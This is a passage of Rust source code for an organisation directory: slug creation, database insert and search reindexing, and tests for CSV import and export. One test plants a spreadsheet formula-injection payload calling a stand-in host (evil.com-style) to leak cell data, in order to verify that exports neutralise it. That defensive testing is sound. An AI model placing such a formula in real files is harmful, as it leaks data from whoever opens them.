        .bind(url)
        .execute(&mut *connection)
        .await?;
    }
    reindex(connection, id).await
}

/// The file's slug when it is one and free, else one made from the name (`-2`, `-3`, … when
/// taken).
fn free_slug(wanted: &str, name: &str, taken: &mut HashSet<String>) -> String {
    let base = if crate::shared::identifiers::is_slug(wanted) {
        wanted.to_owned()
    } else {
        let words = crate::platform::search::words(name).join("-");
        let mut base: String = words.chars().take(80).collect();
        base = base.trim_end_matches('-').to_owned();
        if base.is_empty() {
            "entry".to_owned()
        } else {
            base
        }
    };
    let slug = std::iter::once(base.clone())
        .chain((2..).map(|n| format!("{base}-{n}")))
        .find(|slug| !taken.contains(slug))
        .unwrap_or(base);
    taken.insert(slug.clone());
    slug
}

/// A directory entry as written by the seeds (and later by the coordinator's forms).
#[derive(Clone, Debug)]
pub struct OrganisationForCreate {
    pub slug: String,
    pub name: String,
    pub kind: &'static str,
    pub municipality_code: String,
    pub description: Localized,
    pub services: Localized,
    pub website: Option<String>,
    pub email: Option<String>,
    pub phone: Option<String>,
    pub registry_code: Option<String>,
    pub founded_year: Option<i64>,
    pub is_member: bool,
    pub sector_codes: Vec<String>,
    pub languages: Vec<String>,
    /// Social media and other pages, in the order shown.
    pub links: Vec<String>,
}

#[cfg(test)]
impl OrganisationForCreate {
    /// A minimal valid entry for tests; override what the test is about.
    pub(crate) fn sample(slug: &str, municipality: &str) -> Self {
        Self {
            slug: slug.to_owned(),
            name: slug.to_uppercase(),
            kind: "company",
            municipality_code: municipality.to_owned(),
            description: Localized::default(),
            services: Localized::default(),
            website: None,
            email: None,
            phone: None,
            registry_code: None,
            founded_year: None,
            is_member: false,
            sector_codes: vec!["design".into()],
            languages: vec!["et".into()],
            links: Vec::new(),
        }
    }
}

/// Inserts an entry with its sectors and languages. Run it in a transaction, so that an
/// entry is never left without its sectors.
pub async fn insert(
    connection: &mut SqliteConnection,
    entry: &OrganisationForCreate,
) -> Result<i64, sqlx::Error> {
    let id: i64 = sqlx::query_scalar(
        "INSERT INTO organisations (slug, name, kind, municipality_code,
             description_et, description_ru, description_en,
             services_et, services_ru, services_en,
             website, email, phone, registry_code, founded_year, is_member)
         VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
         RETURNING id",
    )
    .bind(&entry.slug)
    .bind(&entry.name)
    .bind(entry.kind)
    .bind(&entry.municipality_code)
    .bind(entry.description.get(Lang::Et))
    .bind(entry.description.get(Lang::Ru))
    .bind(entry.description.get(Lang::En))
    .bind(entry.services.get(Lang::Et))
    .bind(entry.services.get(Lang::Ru))
    .bind(entry.services.get(Lang::En))
    .bind(&entry.website)
    .bind(&entry.email)
    .bind(&entry.phone)
    .bind(&entry.registry_code)
    .bind(entry.founded_year)
    .bind(entry.is_member)
    .fetch_one(&mut *connection)
    .await?;
    for sector in &entry.sector_codes {
        sqlx::query(
            "INSERT INTO organisation_sectors (organisation_id, sector_code) VALUES (?, ?)",
        )
        .bind(id)
        .bind(sector)
        .execute(&mut *connection)
        .await?;
    }
    for language in &entry.languages {
        sqlx::query("INSERT INTO organisation_languages (organisation_id, language) VALUES (?, ?)")
            .bind(id)
            .bind(language)
            .execute(&mut *connection)
            .await?;
    }
    for (position, url) in entry.links.iter().enumerate() {
        sqlx::query(
            "INSERT INTO organisation_links (organisation_id, position, url) VALUES (?, ?, ?)",
        )
        .bind(id)
        .bind(position as i64)
        .bind(url)
        .execute(&mut *connection)
        .await?;
    }
    reindex(connection, id).await?;
    Ok(id)
}

/// Writes an entry's normalised search text (name; descriptions, services, sector labels and
/// municipality names in all three languages).
pub async fn reindex(connection: &mut SqliteConnection, id: i64) -> Result<(), sqlx::Error> {
    let texts: Option<(String, String)> = sqlx::query_as(
        "SELECT o.name,
                coalesce(o.description_et, '') || ' ' || coalesce(o.description_ru, '') || ' ' ||
                coalesce(o.description_en, '') || ' ' || coalesce(o.services_et, '') || ' ' ||
                coalesce(o.services_ru, '') || ' ' || coalesce(o.services_en, '') || ' ' ||
                m.name_et || ' ' || m.name_ru || ' ' || m.name_en || ' ' ||
                coalesce((SELECT group_concat(s.label_et || ' ' || s.label_ru || ' ' || s.label_en, ' ')
                          FROM organisation_sectors os JOIN sectors s ON s.code = os.sector_code
                          WHERE os.organisation_id = o.id), '')
         FROM organisations o JOIN municipalities m ON m.code = o.municipality_code
         WHERE o.id = ?",
    )
    .bind(id)
    .fetch_optional(&mut *connection)
    .await?;
    sqlx::query("DELETE FROM organisation_search_text WHERE organisation_id = ?")
        .bind(id)
        .execute(&mut *connection)
        .await?;
    if let Some((name, body)) = texts {
        sqlx::query(
            "INSERT INTO organisation_search_text (organisation_id, name, body) VALUES (?, ?, ?)",
        )
        .bind(id)
        .bind(crate::platform::search::index_text(&name))
        .bind(crate::platform::search::index_text(&body))
        .execute(&mut *connection)
        .await?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::platform::db::test_pool;

    const HEADER: &str =
        "name;kind;municipality;sectors;languages;description_et;registry_code;phone;member";

    async fn with_entries() -> SqlitePool {
        let pool = test_pool().await;
        let mut tx = pool.begin().await.unwrap();
        let mut studio = OrganisationForCreate::sample("helistuudio", "johvi");
        studio.name = "Jõhvi Helistuudio".into();
        studio.registry_code = Some("10060701".into());
        studio.description = Localized::new(Some("Salvestusstuudio".into()), None, None);
        studio.links = vec!["https://instagram.example/helistuudio".into()];
        insert(&mut tx, &studio).await.unwrap();
        let mut potter = OrganisationForCreate::sample("toila-keraamika", "toila");
        potter.name = "Toila Keraamika".into();
        potter.description = Localized::new(
            None,
            Some("Керамика, \"ручная\"; работа\nи курсы".into()),
            None,
        );
        potter.sector_codes = vec!["heritage-crafts".into(), "design".into()];
        potter.languages = vec!["ru".into(), "et".into()];
        insert(&mut tx, &potter).await.unwrap();
        tx.commit().await.unwrap();
        pool
    }

    fn problems(plan: &ImportPlan) -> Vec<(u64, &str, Problem, &str)> {
        plan.problems
            .iter()
            .map(|p| (p.line, p.column.as_str(), p.problem, p.value.as_str()))
            .collect()
    }

    #[tokio::test]
    async fn an_export_imported_again_changes_nothing_with_either_separator() {
        let pool = with_entries().await;
        for separator in [Separator::Semicolon, Separator::Comma] {
            let file = export(&pool, separator).await.unwrap();
            assert!(file.starts_with("\u{feff}".as_bytes()), "a BOM for Excel");
            let text = String::from_utf8(file.clone()).unwrap();
            assert!(text.contains("\r\n"), "Windows line ends");
            let planned = plan(&pool, &file).await.unwrap();
            assert_eq!(problems(&planned), vec![]);
            assert_eq!(
                (planned.new.len(), planned.updated.len(), planned.unchanged),
                (0, 0, 2)
            );
        }
    }

    #[tokio::test]
    async fn cells_a_spreadsheet_would_run_are_exported_as_text_and_import_unchanged() {
        let pool = with_entries().await;
        let mut tx = pool.begin().await.unwrap();
        let mut forged = OrganisationForCreate::sample("valem", "narva");
        forged.name = r#"=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.into();
        forged.description = Localized::new(
            Some("'=already a quote".into()),
            Some("-1+1".into()),
            Some("@SUM(1)".into()),
        );
        forged.phone = Some("+372 5555 4321".into());
        insert(&mut tx, &forged).await.unwrap();
        tx.commit().await.unwrap();

        let file = export(&pool, Separator::Semicolon).await.unwrap();
        let text = String::from_utf8(file.clone()).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let cells: Vec<String> = reader
            .records()
            .map(|r| r.unwrap())
            .find(|r| r.iter().any(|cell| cell.contains("HYPERLINK")))
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell Excel would run: {cell}"
            );
        }
        assert!(
            cells.contains(&r#"'=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.to_owned())
        );
        assert!(cells.contains(&"'+372 5555 4321".to_owned()));
        assert!(cells.contains(&"''=already a quote".to_owned()));

        let planned = plan(&pool, &file).await.unwrap();
        assert_eq!(problems(&planned), vec![]);
        assert_eq!(
            (planned.new.len(), planned.updated.len(), planned.unchanged),
            (0, 0, 3),
            "the round trip changes nothing"
        );
    }

    #[tokio::test]
    async fn a_messy_file_is_read_and_a_bad_registry_code_is_told_by_line_and_column() {
        let pool = with_entries().await;
        let mut file = format!("\u{feff}{HEADER}\r\n");
        // Line 2: a quoted description over two lines, with the separator and quotes inside.
        file.push_str(
            "\"Narva Valguskoda OÜ\";company;Narva;film, design;et, ru;\"Valgus; \"\"video\"\"\r\nja droonid\";10421629;+372 5550 0100;jah\r\n",
        );
        file.push_str("\r\n"); // line 4: empty
        for n in 5..=60 {
            let code = if n == 57 { "12345670" } else { "" };
            file.push_str(&format!(
                "Stuudio {n};freelancer;Sillamäe linn;Disain;et;Kirjeldus {n};{code};;ei\r\n"
            ));
        }
        let planned = plan(&pool, file.as_bytes()).await.unwrap();
        assert_eq!(
            problems(&planned),
            vec![(57, "registry_code", Problem::NotARegistryCode, "12345670")]
        );
        assert_eq!(planned.new.len(), 56);
        let narva = planned
            .new
            .iter()
            .find(|e| e.name == "Narva Valguskoda OÜ")
            .unwrap();
        // Windows line ends inside the cell are stored as plain line breaks.
        assert_eq!(
            narva.description_et.as_deref(),
            Some("Valgus; \"video\"\nja droonid")
        );
        assert_eq!(narva.municipality, "narva");
        assert_eq!(narva.sectors, "film, design");
        assert!(narva.is_member);
        let stuudio = planned.new.iter().find(|e| e.name == "Stuudio 5").unwrap();
        assert_eq!(
            (stuudio.municipality.as_str(), stuudio.sectors.as_str()),
            ("sillamae", "design")
        );
    }

    #[tokio::test]
    async fn list_cells_and_texts_have_their_limits() {
        let pool = with_entries().await;
        let languages = vec!["et"; 31].join(", ");
        let links: Vec<String> = (0..31).map(|n| format!("https://ivek.ee/{n}")).collect();
        let links = links.join("\n");
        let name = "N".repeat(201);
        let cells = HashMap::from([
            ("name", name.as_str()),
            ("kind", "company"),
            ("municipality", "narva"),
            ("sectors", "design"),
            ("languages", languages.as_str()),
            ("description_et", "Tekst"),
            ("links", links.as_str()),
        ]);
        let (_, problems) = read_entry(&pool, &cells).await.unwrap();
        let found: Vec<(&str, Problem)> = problems
            .iter()
            .map(|p| (p.column.as_str(), p.problem))
            .collect();
        assert_eq!(
            found,
            [
                ("name", Problem::TooLong),
                ("languages", Problem::TooLong),
                ("links", Problem::TooLong)
            ]
        );
    }

    #[tokio::test]
    async fn unknown_sectors_municipalities_and_columns_are_reported_not_dropped() {
        let pool = with_entries().await;
        let file = format!(
            "{HEADER}\nA;company;Atlantis;design, knitting;et;Tekst;;;\nB;dragon;narva;;et;;;12;maybe\n"
        );
        let planned = plan(&pool, file.as_bytes()).await.unwrap();
        assert_eq!(
            problems(&planned),
            vec![
                (2, "municipality", Problem::UnknownMunicipality, "Atlantis"),
                (2, "sectors", Problem::UnknownSector, "knitting"),
                (3, "kind", Problem::UnknownChoice, "dragon"),
                (3, "sectors", Problem::Required, ""),
                (3, "description_et", Problem::DescriptionInOneLanguage, ""),
                (3, "phone", Problem::NotAPhone, "12"),
                (3, "member", Problem::NotYesOrNo, "maybe"),
            ]
        );
        let bad_header = plan_of(&pool, "name,kind,colour\nA,company,red\n").await;
        assert_eq!(
            problems(&bad_header),
            vec![
                (1, "colour", Problem::UnknownColumn, "colour"),
                (1, "municipality", Problem::MissingColumn, ""),
                (1, "sectors", Problem::MissingColumn, ""),
            ]
        );
        let latin1 = plan(&pool, b"name;kind\nT\xf5nu;company\n").await.unwrap();
        assert_eq!(problems(&latin1), vec![(2, "", Problem::NotUtf8, "")]);
    }

    async fn plan_of(pool: &SqlitePool, text: &str) -> ImportPlan {
        plan(pool, text.as_bytes()).await.unwrap()
    }

    #[tokio::test]
    async fn rows_match_by_registry_code_else_by_name_and_municipality_and_commit_all_or_nothing() {
        let pool = with_entries().await;
        let file = format!(
            "{HEADER}\n\
             Helistuudio OÜ;company;johvi;design;et;Salvestusstuudio;10060701;;\n\
             toila keraamika;company;toila;heritage-crafts, design;ru, et;Uus kirjeldus;;;\n\
             Uus Tegija;sole-trader;narva;design;et;Tekst;;;\n"
        );
        let planned = plan_of(&pool, &file).await;
        assert_eq!(problems(&planned), vec![]);
        assert_eq!(
            (planned.new.len(), planned.updated.len(), planned.unchanged),
            (1, 2, 0)
        );
        assert_eq!(
            commit(&pool, &planned, Actor::COMMAND_LINE).await.unwrap(),
            (1, 2)
        );
        let renamed: String =
            sqlx::query_scalar("SELECT name FROM organisations WHERE registry_code = '10060701'")
                .fetch_one(&pool)
                .await
                .unwrap();
        assert_eq!(renamed, "Helistuudio OÜ");
        // Planned again: all three are now as the file says.
        let again = plan_of(&pool, &file).await;
        assert_eq!(
            (again.new.len(), again.updated.len(), again.unchanged),
            (0, 0, 3)
        );

        // A plan with a problem writes nothing, and a failure half-way leaves nothing behind.
        let broken = plan_of(
            &pool,
            &format!("{HEADER}\nX;company;narva;design;et;T;1;;\n"),
        )
        .await;
        assert!(commit(&pool, &broken, Actor::COMMAND_LINE).await.is_err());
        let count = || async {
            sqlx::query_scalar::<_, i64>("SELECT count(*) FROM organisations")
                .fetch_one(&pool)
                .await
                .unwrap()
        };
        let before = count().await;
        let mut doomed = plan_of(
            &pool,
            &format!("{HEADER}\nY;company;narva;design;et;T;;;\nZ;company;narva;design;et;T;;;\n"),
        )
        .await;
        doomed.new[1].municipality = "atlantis".into(); // the database refuses the second row
        assert!(commit(&pool, &doomed, Actor::COMMAND_LINE).await.is_err());
        assert_eq!(count().await, before, "the first row was rolled back too");
    }
}
